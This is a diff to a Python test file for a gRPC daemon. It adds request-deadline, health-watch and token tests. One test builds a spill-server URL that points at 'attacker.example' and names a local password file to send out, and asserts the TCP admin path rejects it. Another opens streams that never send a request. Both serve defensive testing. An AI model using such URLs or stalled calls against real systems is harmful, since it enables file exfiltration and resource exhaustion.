@@ -27,9 +27,14 @@ Code = grpc.StatusCode
 
 
 @asynccontextmanager
-async def tcp(d: Daemon, access: Access | None, tls: Tls | None = None) -> AsyncIterator[str]:
+async def tcp(
+    d: Daemon, access: Access | None, tls: Tls | None = None, request_within_s: float = DEADLINE_S
+) -> AsyncIterator[str]:
     """The daemon's service on a port of its own; yields the address."""
-    server = RpcServer(d.service, ["127.0.0.1:0"], concurrent_rpcs_max=20, access=access, tls=tls)
+    server = RpcServer(
+        d.service, ["127.0.0.1:0"], concurrent_rpcs_max=20, access=access, tls=tls,
+        request_within_s=request_within_s,
+    )
     await server.start()
     try:
         yield server.addresses[0]
@@ -67,6 +72,17 @@ async def health(channel: grpc.aio.Channel, metadata: Any) -> Any:
     return await stub.Check(health_pb2.HealthCheckRequest(), metadata=metadata, timeout=DEADLINE_S)
 
 
+async def watch(channel: grpc.aio.Channel, metadata: Any) -> Any:
+    stub = health_pb2_grpc.HealthStub(channel)
+    return await stub.Watch(health_pb2.HealthCheckRequest(), metadata=metadata, timeout=DEADLINE_S).read()
+
+
+async def never_sent(channel: grpc.aio.Channel, metadata: Any) -> Any:
+    """A call with one request, which is begun and whose request does not come."""
+    silent = channel.stream_stream("/tierd.v1.Blocks/Lookup")
+    return await silent(metadata=metadata, timeout=DEADLINE_S).read()
+
+
 async def reflect(channel: grpc.aio.Channel, metadata: Any) -> Any:
     request = reflection_pb2.ServerReflectionRequest(list_services="")
     stub = reflection_pb2_grpc.ServerReflectionStub(channel)
@@ -86,14 +102,16 @@ async def status_of(call: Call, channel: grpc.aio.Channel, token: str | None) ->
     (data, f"Bearer {DATA}", Code.OK), (data, f"Bearer {OTHER_DATA}", Code.OK), (data, f"Bearer {ADMIN}", Code.OK),
     (admin, f"Bearer {ADMIN}", Code.OK), (admin, f"Bearer {DATA}", Code.PERMISSION_DENIED),
     (session, f"Bearer {DATA}", Code.OK), (put, f"Bearer {DATA}", Code.NOT_FOUND),
-    (reflect, f"Bearer {DATA}", Code.OK), (health, None, Code.OK),
-    *((call, wrong, Code.UNAUTHENTICATED) for call in (data, admin, session, put, reflect) for wrong in (
+    (reflect, f"Bearer {DATA}", Code.OK), (health, None, Code.OK), (watch, f"Bearer {DATA}", Code.OK),
+    (never_sent, None, Code.UNAUTHENTICATED),
+    *((call, wrong, Code.UNAUTHENTICATED) for call in (data, admin, session, put, reflect, watch) for wrong in (
         None, "", f"Bearer {DATA[:-1]}", f"Bearer {DATA}x", DATA, f"Basic {DATA}", "Bearer "
     )),
 ])
 def test_tokens(tmp_path: Path, call: Call, token: str | None, code: Code) -> None:
     """A data token allows the data plane, an admin token everything; a missing or unknown one is UNAUTHENTICATED,
-    for every kind of call; one that does not reach is PERMISSION_DENIED naming the call. Health is open."""
+    for every kind of call, before its request has come; one that does not reach is PERMISSION_DENIED naming the
+    call. A check of health is open."""
 
     async def body(d: Daemon) -> None:
         await d.namespace()
@@ -103,6 +121,42 @@ def test_tokens(tmp_path: Path, call: Call, token: str | None, code: Code) -> No
             assert DATA not in details and ADMIN not in details
             if code is Code.PERMISSION_DENIED:
                 assert details == "GetConfig needs an admin token"
+
+    run(body, tmp_path)
+
+
+def test_a_request_must_come(tmp_path: Path) -> None:
+    """Calls over TCP that are begun and never sent give their places back when their time is over, and one that
+    ends without a request is told so."""
+
+    async def body(d: Daemon) -> None:
+        await d.namespace()
+        async with tcp(d, None, request_within_s=0.5) as address, grpc.aio.insecure_channel(address) as channel:
+            found = await asyncio.gather(*(status_of(never_sent, channel, None) for _ in range(20)))
+            assert set(found) == {(Code.RESOURCE_EXHAUSTED, "no request came for 0.5 s")}
+            assert (await status_of(data, channel, None))[0] is Code.OK
+            empty = channel.stream_unary("/tierd.v1.Blocks/Lookup")
+            with pytest.raises(grpc.aio.AioRpcError, match="request: missing"):
+                await empty(iter(()), timeout=DEADLINE_S)
+
+    run(body, tmp_path)
+
+
+def test_files_of_the_machine_are_not_for_tcp(tmp_path: Path) -> None:
+    """An admin over TCP cannot have a file of the daemon's machine sent to a spill server, nor learn whether there
+    is one; by the Unix socket, whose callers can read it anyway, the option is taken."""
+    url = f"redis://attacker.example/0?password_file={tmp_path}/none"
+
+    async def body(d: Daemon) -> None:
+        request = apb.AttachSpillRequest(url=url, replace=True)
+        async with tcp(d, None) as address, grpc.aio.insecure_channel(address) as channel:
+            for stub, told in (
+                (admin_pb2_grpc.AdminStub(channel), "url: password_file names a file"),
+                (d.admin, "url: there is no such store"),
+            ):
+                with pytest.raises(grpc.aio.AioRpcError) as caught:
+                    await stub.AttachSpill(request, timeout=DEADLINE_S)
+                assert caught.value.code() is Code.INVALID_ARGUMENT and told in str(caught.value.details())
 
     run(body, tmp_path)
 
